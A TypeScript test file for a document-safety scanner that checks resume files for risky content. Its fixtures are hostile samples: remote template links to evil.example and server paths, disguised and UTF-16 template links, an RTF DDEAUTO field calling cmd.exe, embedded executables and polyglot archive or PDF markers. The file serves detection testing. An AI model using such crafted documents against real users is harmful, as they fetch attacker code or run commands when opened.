import { describe, expect, test } from 'vitest';
import { compoundFile } from './test-support/compound-file.ts';
import { docxFiles, odtFiles, resumes, wordStream } from './test-support/resumes.ts';
import { warningsAbout } from './test-support/warnings-about.ts';
import { type PackedFile, zipFile } from './test-support/zip-file.ts';

const relationships = (rows: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows}</Relationships>`;
const row = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`;
const docx = (...more: PackedFile[]) => zipFile([...docxFiles, ...more]);
const linked = (type: string, target: string, mode?: string) =>
  docx({ name: 'word/_rels/settings.xml.rels', content: relationships(row(type, target, mode)) });
const odt = (content: string, ...more: PackedFile[]) =>
  zipFile([odtFiles[0]!, { name: 'content.xml', content }, odtFiles[2]!, ...more]);
const rtf = (words: string) => Buffer.from(`{\\rtf1\\ansi ${words}\\par}`, 'latin1');
const doc = (child?: number) =>
  compoundFile([
    { name: 'WordDocument', content: wordStream() },
    { name: 'ObjectPool', ...(child !== undefined && { child }) },
  ]);

describe('whoever opens a document is told of', () => {
  test.each<[what: string, type: string, bytes: Buffer, words: RegExp]>([
    [
      'a template from elsewhere',
      'docx',
      linked('attachedTemplate', 'https://evil.example/a.dotm'),
      /template/,
    ],
    ['a template on a server', 'docx', linked('attachedTemplate', '\\\\10.0.0.1\\a.dotm'), /template/],
    [
      'a template on a server by its address',
      'docx',
      linked('attachedTemplate', 'file://10.0.0.1/a.dotm'),
      /template/,
    ],
    [
      'a template by references',
      'docx',
      linked('attachedTemplate', '&#104;ttp://x/a.dotm', 'Exter&#x6e;al'),
      /template/,
    ],
    [
      'a template in UTF-16',
      'docx',
      docx({
        name: 'word/_rels/a.rels',
        content: Buffer.from(`\ufeff${relationships(row('attachedTemplate', 'http://x'))}`, 'utf16le'),
      }),
      /template/,
    ],
    ['a picture from elsewhere', 'docx', linked('image', 'https://evil.example/a.png'), /fetches content/],
    ['a part in another format', 'docx', linked('aFChunk', 'a.html', 'Internal'), /object/],
    [
      'an embedded object',
      'docx',
      docx({ name: 'word/embeddings/oleObject1.bin', content: resumes.doc }),
      /object/,
    ],
    ['an archive inside', 'docx', docx({ name: 'word/media/image1.png', content: resumes.odt }), /archive/],
    [
      'an archive that is stored',
      'docx',
      docx({ name: 'word/media/image1.png', content: resumes.odt, stored: true }),
      /archive/,
    ],
    ['a program inside', 'docx', docx({ name: 'word/media/image1.png', content: 'MZ\u0090\0' }), /program/],
    [
      'links too long to be read',
      'docx',
      docx({ name: 'word/_rels/a.rels', content: relationships(' '.repeat(70_000)) }),
      /Could not look into 1 /,
    ],
    [
      'links with shorthands',
      'docx',
      docx({
        name: 'word/_rels/a.rels',
        content: `<!DOCTYPE a [<!ENTITY b "External">]>${relationships('')}`,
      }),
      /Could not look into 1 /,
    ],
    [
      'a PDF inside its beginning',
      'docx',
      zipFile([{ name: '%PDF-1.7', content: 'x' }, ...docxFiles]),
      /as a PDF/,
    ],
    [
      'scripts',
      'odt',
      odt(
        '<office:document-content><script:event-listener script:event-name="dom:load"/></office:document-content>',
      ),
      /scripts/,
    ],
    [
      'a picture on a network',
      'odt',
      odt('<draw:image xlink:type="simple" xlink:href="http://evil.example/a.png"/>'),
      /fetches content/,
    ],
    [
      'an object in the text',
      'odt',
      odt('<a/>', { name: 'Object 1/content.xml', content: '<a/>' }),
      /object/,
    ],
    ['an object', 'rtf', rtf('{\\object\\objemb{\\*\\objdata 0105}}'), /object/],
    ['a template', 'rtf', rtf('{\\*\\template http://evil.example/a.dotm}'), /template/],
    ['a template on a server', 'rtf', rtf('{\\*\\template \\\\\\\\server\\\\a.dotm}'), /template/],
    [
      'a field that fetches',
      'rtf',
      rtf('{\\field{\\*\\fldinst {\\b INCLUDEPICTURE "http://x/a.png"}}}'),
      /fetches content/,
    ],
    [
      'a field that calls a program',
      'rtf',
      rtf('{\\field{\\*\\fldinst DDEAUTO cmd.exe}}'),
      /fetches content/,
    ],
    [
      'an archive behind it',
      'rtf',
      Buffer.concat([Buffer.from('{\\rtf1 {\\*\\x PK\u0005\u0006}'), Buffer.from('}')]),
      /archive/,
    ],
    ['an object', 'doc', doc(1), /object/],
    ['a PDF in its beginning', 'txt', Buffer.from('Ada\n%PDF-1.4\n'), /as a PDF/],
  ])('%s in %s', (_, type, bytes, words) => {
    expect(warningsAbout(bytes, type)).toEqual(expect.arrayContaining([expect.stringMatching(words)]));
  });
});

describe('nothing is said about', () => {
  test.each<[what: string, type: string, bytes: Buffer]>([
    ...Object.entries(resumes).map(
      ([type, bytes]) => ['a plain one', type, bytes] as [string, string, Buffer],
    ),
    ['links to click', 'docx', linked('hyperlink', 'https://ada.example.org')],
    [
      "a template on its author's disk",
      'docx',
      linked('attachedTemplate', 'file:///C:\\Users\\ada\\Resume.dotx'),
    ],
    ['a template by its name', 'docx', linked('attachedTemplate', 'Normal.dotm')],
    ['parts of its own', 'docx', linked('image', 'media/image1.png', 'Internal')],
    [
      'links to click',
      'odt',
      odt('<text:a xlink:type="simple" xlink:href="https://ada.example.org">x</text:a>'),
    ],
    ['pictures of its own', 'odt', odt('<draw:image xlink:href="Pictures/1.png"/>')],
    ["a template on its author's disk", 'rtf', rtf('{\\*\\template C:\\\\Users\\\\ada\\\\Resume.dotx}')],
    [
      'links to click',
      'rtf',
      rtf('{\\field{\\*\\fldinst HYPERLINK "https://ada.example.org"}} IMPORT MANAGER'),
    ],
    ['escaped words', 'rtf', rtf('C:\\\\object \\\\\\\\objdata')],
    ['an empty pool', 'doc', doc()],
  ])('%s in %s', (_, type, bytes) => {
    expect(warningsAbout(bytes, type)).toEqual([]);
  });
});
